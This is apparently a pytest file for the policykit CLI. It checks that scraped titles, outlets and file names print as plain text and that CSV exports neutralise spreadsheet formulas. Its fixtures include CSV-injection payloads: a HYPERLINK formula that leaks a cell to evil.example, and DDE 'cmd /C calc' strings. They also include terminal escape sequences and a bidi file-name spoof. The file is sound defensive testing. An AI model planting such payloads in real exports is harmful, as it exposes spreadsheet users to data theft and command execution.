"""Output that cannot be hijacked (issue 9, items 5 and 6).

- Scraped strings are printed as text, never as rich markup: a title, an outlet or a
  folder name holding ``[/bold]`` used to crash the table output with MarkupError (after
  the ingest had committed, so no accounting was printed).
- CSV output neutralises cells a spreadsheet would run as formulas (OWASP: a leading
  ``=``, ``+``, ``-``, ``@``, tab or CR gets a ``'``); ``--raw-csv`` / ``raw_csv=True``
  turns that off; numbers stay numbers; JSON and Parquet keep the text as stored.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import duckdb
import pandas as pd
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

import policykit as pk
from policykit.cli import emit, main

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP CSV injection, written out here

TITLES = [
    "[/bold] Facial recognition at airports",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Facial recognition report")',
    "+cmd|' /C calc'!A0 facial recognition at stations",
    "-2+3+cmd|' /C calc'!A0 facial recognition in schools",
    "@SUM(1+9)*cmd|' /C calc'!A0 facial recognition in malls",
    "\t=1+2 facial recognition on trains",  # cleaning strips the tab: a bare formula is left
    "\r=1+2 facial recognition on buses",
    "Facial recognition [red]in [bold]courts",
    "A plain facial recognition title",
]
OUTLETS = ["[/bold]Outlet[red]", "[link=http://evil.example]Outlet Two", "Plain Outlet"]


def write_scrape(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    lines = [
        json.dumps(
            {
                "url": f"https://outlet{i % 3}.example/story/{i}",
                "title": title,
                "date": f"2024-01-{1 + i:02d}T10:00:00Z",
                "source": OUTLETS[i % 3],
                "text": f"{title}. Officials said facial recognition was used. " * 3,
            }
        )
        for i, title in enumerate(TITLES)
    ]
    lines.append('=HYPERLINK("http://evil.example/") is not JSON')  # a reject's payload
    path = folder / "news.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def loaded(tmp_path_factory):
    """A folder literally named ``data/[/bold]x``, ingested through the CLI."""
    root = tmp_path_factory.mktemp("safety")
    folder = root / "data" / "[/bold]x"
    source = write_scrape(folder)
    db = root / "db.duckdb"
    result = CliRunner().invoke(main, ["ingest", str(folder), "--db", str(db)])
    return root, folder, source, db, result


def invoke(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


# --- item 5: markup ---------------------------------------------------------------------


def test_ingest_of_a_markup_folder_prints_its_accounting(loaded):
    root, folder, source, db, result = loaded
    assert result.exit_code == 0, result.output
    assert "MarkupError" not in result.output
    lines = source.read_text(encoding="utf-8").splitlines()  # independent count
    row = next(line for line in result.output.splitlines() if "news.jsonl" in line)
    assert "[/bold]x" in row  # the folder name printed as it is
    cells = [c.strip() for c in row.strip("│ ").split("│")]
    assert str(len(lines)) in cells
    assert "TOTAL" in result.output


def test_ingest_of_a_markup_folder_in_a_real_process(tmp_path):
    folder = tmp_path / "data" / "[/bold]x"
    write_scrape(folder)
    run = subprocess.run(
        [sys.executable, "-m", "policykit", "ingest", str(folder), "--db",
         str(tmp_path / "p.duckdb"), "--no-enrich"],
        capture_output=True, text=True, timeout=300, cwd=tmp_path,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    assert "Traceback" not in run.stderr
    assert "Ingest accounting" in run.stdout and "[/bold]x" in run.stdout
    assert "1 files (1 loaded" in run.stdout


@pytest.mark.parametrize(
    "args",
    [
        ["sql", "select outlet, title from articles"],
        ["info"],
        ["topics", "test", "--query", "facial recognition", "--limit", "20"],
        ["trends", "stories", "facial_recognition", "--n", "20"],
        ["trends", "outlets", "facial_recognition"],
        ["trends", "first-movers", "facial_recognition", "--min-outlets", "1"],
    ],
    ids=lambda a: " ".join(a[:2]),
)
def test_tables_print_markup_as_text(loaded, args):
    root, folder, source, db, _ = loaded
    result = invoke(*args, "--db", db)
    assert result.exit_code == 0, result.output
    assert "[/bold]Outlet[red]" in result.output


def test_titles_print_as_text(loaded):
    *_, db, _ = loaded
    result = invoke("sql", "select title from articles order by title", "--db", db)
    assert result.exit_code == 0, result.output
    stored = duckdb.connect(str(db), read_only=True).sql("select title from articles").fetchall()
    for (title,) in stored:
        if "[" in title:
            assert title in result.output  # markup kept literally, not interpreted


def test_table_escapes_control_characters_and_bidi():
    frame = pd.DataFrame(
        {
            "title": ["clear \x1b[2J screen", "evil \u202egnp.exe", "bell \x07 here"],
            "outlet": ["[/bold]", "[bold]x", "\udcffbad name"],  # an undecodable file name
        },
        dtype=object,
    )
    buffer = io.StringIO()
    emit(frame, "table", out=buffer, title="[/red] title \x1b]8;;http://x\x07")
    text = buffer.getvalue()
    assert "\x1b" not in text and "\u202e" not in text and "\x07" not in text
    assert "\\x1b[2J" in text and "\\u202e" in text and "\\udcff" in text
    assert "[/bold]" in text and "[bold]x" in text and "[/red] title" in text


def test_file_names_cannot_draw_rows_or_escape(tmp_path, monkeypatch):
    # A file name with a newline and an ESC, in a folder named like markup; the file has
    # an unknown layout, so it fails and its name is printed on stdout and stderr. The
    # path is relative, so the cell fits the 200-column table and is not wrapped.
    monkeypatch.chdir(tmp_path)
    folder = Path("[/bold]in")
    write_scrape(folder)
    (folder / "bad\n│ fake.csv │ loaded \x1b[31m.csv").write_text("a,b,c\n1,2,3\n")
    result = CliRunner().invoke(main, ["ingest", str(folder), "--db", "d.duckdb", "--no-enrich"])
    assert "\x1b" not in result.stdout and "\x1b" not in result.stderr
    assert "bad\\n│ fake.csv │ loaded \\x1b[31m.csv" in result.stdout  # one cell, escaped
    assert not any(line.startswith("│ fake.csv") for line in result.stdout.splitlines())
    assert result.exit_code in (0, 1), result.output  # 1: a file failed, the others loaded
    assert "Traceback" not in result.stderr
    if result.exit_code == 1:
        lines = result.stderr.strip().splitlines()
        assert all(line.startswith("failed: ") for line in lines[:-1]), lines


# --- item 6: CSV formula injection ------------------------------------------------------


def _expected(cell: str) -> str:
    return "'" + cell if cell[:1] in FORMULA_STARTS else cell


def _stored_titles(db: Path) -> set[str]:
    con = duckdb.connect(str(db), read_only=True)
    try:
        return {t for (t,) in con.sql("select title from articles").fetchall()}
    finally:
        con.close()


def test_stored_titles_hold_formulas(loaded):
    # The data really is hostile: the tab/CR titles lost their whitespace in cleaning.
    *_, db, _ = loaded
    titles = _stored_titles(db)
    assert sum(t[:1] in FORMULA_STARTS for t in titles) >= 6
    assert any(t.startswith("=1+2 facial recognition on trains") for t in titles)


def _csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    "args,column",
    [
        (["sql", "select title, outlet from articles", "--format", "csv"], "title"),
        (["trends", "stories", "facial_recognition", "--n", "20", "--format", "csv"], "title"),
        (
            ["topics", "test", "--query", "facial recognition", "--limit", "20", "--format", "csv"],
            "title",
        ),  # fmt: skip
    ],
    ids=["sql", "trends stories", "topics test"],
)
def test_csv_cells_cannot_start_a_formula(loaded, args, column):
    *_, db, _ = loaded
    stored = _stored_titles(db)
    result = CliRunner().invoke(main, [*args, "--db", str(db)])
    assert result.exit_code == 0, result.output
    rows = _csv_rows(result.stdout)
    assert len(rows) == len(stored)
    assert {r[column] for r in rows} == {_expected(t) for t in stored}
    for row in rows:
        for value in row.values():
            assert value[:1] not in FORMULA_STARTS, row
    raw = CliRunner().invoke(main, [*args, "--db", str(db), "--raw-csv"])
    assert raw.exit_code == 0, raw.output
    assert {r[column] for r in _csv_rows(raw.stdout)} == stored


def test_csv_to_file_is_protected(loaded, tmp_path):
    *_, db, _ = loaded
    out = tmp_path / "new" / "folder" / "stories.csv"  # a missing folder is created
    result = invoke("trends", "stories", "facial_recognition", "--n", "20", "--format", "csv",
                    "--out", out, "--db", db)  # fmt: skip
    assert result.exit_code == 0, result.output
    with open(out, encoding="utf-8", newline="") as handle:
        titles = {r["title"] for r in csv.DictReader(handle)}
    assert titles == {_expected(t) for t in _stored_titles(db)}


def test_numbers_stay_numbers(loaded):
    *_, db, _ = loaded
    result = CliRunner().invoke(
        main,
        ["sql", "select -1 as n, -2.5 as f, '-1' as s, '=1' as e, NULL as z", "--format", "csv",
         "--db", str(db)],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    (row,) = _csv_rows(result.stdout)
    assert row == {"n": "-1", "f": "-2.5", "s": "'-1", "e": "'=1", "z": ""}


def test_json_and_parquet_keep_the_text(loaded, tmp_path):
    *_, db, _ = loaded
    stored = _stored_titles(db)
    result = CliRunner().invoke(
        main, ["trends", "stories", "facial_recognition", "--n", "20", "--format", "json",
               "--db", str(db)],
    )  # fmt: skip
    assert {r["title"] for r in json.loads(result.stdout)} == stored
    out = tmp_path / "s.parquet"
    result = invoke("trends", "stories", "facial_recognition", "--n", "20", "--format",
                    "parquet", "--out", out, "--db", db)  # fmt: skip
    assert result.exit_code == 0, result.output
    assert set(pd.read_parquet(out)["title"]) == stored


def _read_csv_cells(path: Path) -> list[dict]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_export_csv_is_protected_and_parquet_is_not(loaded, tmp_path):
    *_, db, _ = loaded
    result = invoke("export", "--db", db, "--out", tmp_path / "csv", "--format", "csv")
    assert result.exit_code == 0, result.output
    invoke("export", "--db", db, "--out", tmp_path / "pq", "--format", "parquet")
    raw = invoke("export", "--db", db, "--out", tmp_path / "raw", "--format", "csv", "--raw-csv")
    assert raw.exit_code == 0, raw.output
    names = sorted(path.stem for path in (tmp_path / "csv").glob("*.csv"))
    assert {"articles", "article_facts", "outlets", "rejects"} <= set(names)
    for name in names:
        table = pq.read_table(tmp_path / "pq" / f"{name}.parquet")
        rows = _read_csv_cells(tmp_path / "csv" / f"{name}.csv")
        raw_rows = _read_csv_cells(tmp_path / "raw" / f"{name}.csv")
        assert len(rows) == len(raw_rows) == table.num_rows
        # Views have no row order, so compare the text columns as sorted row tuples.
        text = [f.name for f in table.schema if str(f.type) == "string"]
        stored = [tuple(r[c] or "" for c in text) for r in table.select(text).to_pylist()]
        assert sorted(tuple(r[c] for c in text) for r in rows) == sorted(
            tuple(_expected(v) for v in row) for row in stored
        ), name
        assert sorted(tuple(r[c] for c in text) for r in raw_rows) == sorted(stored), name
        for row in rows:
            for column in text:
                assert row[column][:1] not in FORMULA_STARTS, (name, row)
    titles = {r["title"] for r in _read_csv_cells(tmp_path / "csv" / "articles.csv")}
    assert titles == {_expected(t) for t in _stored_titles(db)}
    payloads = [r["payload"] for r in _read_csv_cells(tmp_path / "csv" / "rejects.csv")]
    assert any(p.startswith("'=HYPERLINK(") for p in payloads), payloads


def test_python_export_keyword(loaded, tmp_path):
    *_, db, _ = loaded
    pk.export(db, out=tmp_path / "a", format="csv")
    pk.export(db, out=tmp_path / "b", format="csv", raw_csv=True)
    protected = {r["title"] for r in _read_csv_cells(tmp_path / "a" / "articles.csv")}
    raw = {r["title"] for r in _read_csv_cells(tmp_path / "b" / "articles.csv")}
    stored = _stored_titles(db)
    assert raw == stored
    assert protected == {_expected(t) for t in stored}
    assert protected != raw


def test_protect_csv_touches_only_text():
    from policykit.trends.export import protect_csv

    frame = pd.DataFrame(
        {
            "n": [-1, 2, -3],
            "f": [-0.5, None, 1.0],
            "s": ["-x", None, "ok"],
            "mixed": [-4, "=A1", "\tB"],
        }
    )
    out = protect_csv(frame)
    assert out["n"].tolist() == [-1, 2, -3] and out["n"].dtype == frame["n"].dtype
    assert out["f"].isna().tolist() == [False, True, False]
    assert out["s"].tolist()[0] == "'-x" and out["s"].isna().tolist()[1]
    assert out["mixed"].tolist() == [-4, "'=A1", "'\tB"]
    assert frame["s"].tolist()[0] == "-x"  # the input frame is not changed
